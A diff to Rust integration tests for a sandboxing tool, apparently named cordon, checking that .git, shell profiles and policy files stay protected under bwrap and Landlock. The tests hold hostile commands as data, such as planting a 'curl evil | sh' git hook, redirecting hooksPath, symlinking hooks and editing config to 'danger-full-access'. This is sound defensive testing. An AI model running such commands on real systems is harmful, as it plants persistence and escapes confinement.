@@ -1,7 +1,8 @@
-//! The grant (policy world `0.2.0`), tried from outside as root under every
+//! The grant (policy world `0.2.0`), tried from outside under every
 //! backend, with the host checked after each attempt: protected paths stay
-//! read-only and uncreatable in `workspace-write` (under Landlock the run
-//! says `partial` and why), a deny-read path is unreadable while its
+//! read-only and uncreatable in `workspace-write` (under Landlock by the
+//! launcher's file supervisor, with `chmod +x` of a workspace file working
+//! and `chmod` outside refused), a deny-read path is unreadable while its
 //! siblings are not, an extra writable root is writable, a grant wider than
 //! the operator's ceilings is refused naming the field, an *ask* is a
 //! structured error whose approved re-send runs, and a component built
@@ -51,11 +52,14 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
         let config = std::fs::read(root.join(".git/config")).unwrap();
         let args = workspace_write(backend, root.to_str().unwrap());
 
-        // Positive control: ordinary writes, `git status` and `git diff`.
+        // Positive control: ordinary writes, `git status`, `git diff` and
+        // `chmod +x` of a workspace file.
         let (code, result) = run_json(
             root,
             &args,
-            "echo two >> tracked.txt && echo new > new.txt && git status --short && git diff --stat",
+            "echo two >> tracked.txt && echo new > new.txt && git status --short && \
+             git diff --stat && printf '#!/bin/sh\\necho ran\\n' > tool.sh && chmod +x tool.sh && \
+             ./tool.sh",
         );
         assert_eq!(code, 0, "{backend:?}: {result}");
         let out = result["stdout"]["text"].as_str().unwrap();
@@ -63,24 +67,20 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
             out.contains(" M tracked.txt") && out.contains("?? new.txt"),
             "{out}"
         );
+        assert!(out.contains("ran"), "{out}");
         assert_eq!(
             std::fs::read_to_string(root.join("new.txt")).unwrap(),
             "new\n"
         );
-
-        if backend.contains(&"landlock") {
-            // Landlock only adds rights beneath a path: it cannot keep .git
-            // read-only inside the writable root, and the run says so.
-            assert_eq!(sandbox(&result)["enforcement"], "partial", "{result}");
-            let partial = result["grant"]["partial"].to_string();
-            assert!(
-                partial.contains("protected: Landlock cannot keep"),
-                "{partial}"
-            );
-            assert!(partial.contains(".git"), "{partial}");
-            continue;
-        }
-        assert_eq!(sandbox(&result)["enforcement"], "full", "{result}");
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(root.join("tool.sh"))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o111, 0o111, "{backend:?}: chmod +x did not land");
+        // Nothing of the protected paths is partial on any rung.
+        let partial = result["grant"]["partial"].to_string();
+        assert!(!partial.contains("protected"), "{backend:?}: {partial}");
         let protected = result["grant"]["protected"].to_string();
         for path in [".git", ".bashrc", ".profile", ".cordon"] {
             assert!(
@@ -88,6 +88,11 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
                 "{path}: {protected}"
             );
         }
+
+        // Outside the workspace, a file of the run's own user stays as it is.
+        let outside = ws.path().with_extension("outside");
+        std::fs::write(&outside, "mine\n").unwrap();
+        std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o644)).unwrap();
 
         for attack in [
             "echo '[core] hooksPath = /tmp' >> .git/config",
@@ -97,11 +102,23 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
             "echo evil >> .bashrc",
             "mkdir .cordon",
             "echo evil > .profile",
+            "ln -s /tmp .git/hooks/pre-push",
+            "ln tracked.txt .git/hooks/post-checkout",
+            "chmod 0777 .git/config",
+            "touch -d 2001-01-01 .git/HEAD",
+            &format!("chmod 0777 {}", outside.display()),
         ] {
             let (code, result) = run_json(root, &args, attack);
-            assert_ne!(code, 0, "{attack}: {result}");
+            assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
         }
+        let mode = std::fs::metadata(&outside).unwrap().permissions().mode();
+        std::fs::remove_file(&outside).unwrap();
+        assert_eq!(mode & 0o777, 0o644, "{backend:?}: chmod outside landed");
         assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
+        assert!(
+            !root.join(".git/hooks/pre-push").exists()
+                && !root.join(".git/hooks/post-checkout").exists()
+        );
         assert!(!root.join(".git/hooks/pre-commit").exists());
         assert!(root.join(".git/HEAD").is_file() && !root.join(".git-away").exists());
         assert_eq!(
@@ -117,23 +134,33 @@ fn in_workspace_write_the_protected_paths_hold_and_git_still_works() {
 
 #[test]
 fn where_git_was_absent_git_init_cannot_plant_a_hook() {
-    if !common::bwrap_usable("where_git_was_absent_git_init_cannot_plant_a_hook") {
-        return;
+    for (backend, _) in confined_backends("where_git_was_absent_git_init_cannot_plant_a_hook") {
+        let ws = workspace();
+        let root = ws.path();
+        let args = workspace_write(backend, root.to_str().unwrap());
+        for attack in [
+            "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
+            "mkdir elsewhere && mv elsewhere .git",
+            "ln -s /tmp .git",
+            "printf 'exit 0' > .bashrc",
+        ] {
+            let (code, result) = run_json(root, &args, attack);
+            assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
+        }
+        assert!(
+            !root.join(".git").exists() && !root.join(".git").is_symlink(),
+            "{backend:?}: a .git was left on the host"
+        );
+        assert!(!root.join(".bashrc").exists(), "{backend:?}: a .bashrc");
+        // Positive control: the same run may create what is not protected.
+        let (code, result) = run_json(
+            root,
+            &args,
+            "mkdir -p src/git && echo ok > src/git/hooks && rm -r elsewhere",
+        );
+        assert_eq!(code, 0, "{backend:?}: {result}");
+        assert!(root.join("src/git/hooks").is_file());
     }
-    let ws = workspace();
-    let root = ws.path();
-    let args = workspace_write(&["--backend", "bwrap"], root.to_str().unwrap());
-    let (code, result) = run_json(
-        root,
-        &args,
-        "git init -q . ; mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit",
-    );
-    assert_ne!(code, 0, "{result}");
-    assert!(!root.join(".git").exists(), "a .git was left on the host");
-    // Positive control: the same run may create what is not protected.
-    let (code, result) = run_json(root, &args, "mkdir -p src/git && echo ok > src/git/hooks");
-    assert_eq!(code, 0, "{result}");
-    assert!(root.join("src/git/hooks").is_file());
 }
 
 #[test]
@@ -495,9 +522,13 @@ fn a_world_0_1_0_component_still_runs_and_keeps_the_grant_it_was_handed() {
 
 #[test]
 fn the_deployed_config_and_policy_files_are_protected_where_a_run_may_write() {
-    if !common::bwrap_usable("the_deployed_config_and_policy_files_are_protected") {
-        return;
+    for (backend, _) in confined_backends("the_deployed_config_and_policy_files_are_protected") {
+        deployed_files_hold(backend);
     }
+}
+
+/// The deployed config and policy inside the workspace hold under `backend`.
+fn deployed_files_hold(backend: &[&str]) {
     let ws = workspace();
     let root = ws.path();
     let config = root.join("cordon.toml");
@@ -511,17 +542,15 @@ fn the_deployed_config_and_policy_files_are_protected_where_a_run_may_write() {
         "--policy",
         policy.to_str().unwrap(),
     ];
-    args.extend(workspace_write(
-        &["--backend", "bwrap"],
-        root.to_str().unwrap(),
-    ));
+    args.extend(workspace_write(backend, root.to_str().unwrap()));
     for attack in [
         "echo 'max_mode = \"danger-full-access\"' >> cordon.toml",
         "echo x > policy.wasm",
         "mv cordon.toml old.toml",
+        "rm -f policy.wasm",
     ] {
         let (code, result) = run_json(root, &args, attack);
-        assert_ne!(code, 0, "{attack}: {result}");
+        assert_ne!(code, 0, "{backend:?}: {attack}: {result}");
     }
     assert_eq!(
         std::fs::read_to_string(&config).unwrap(),
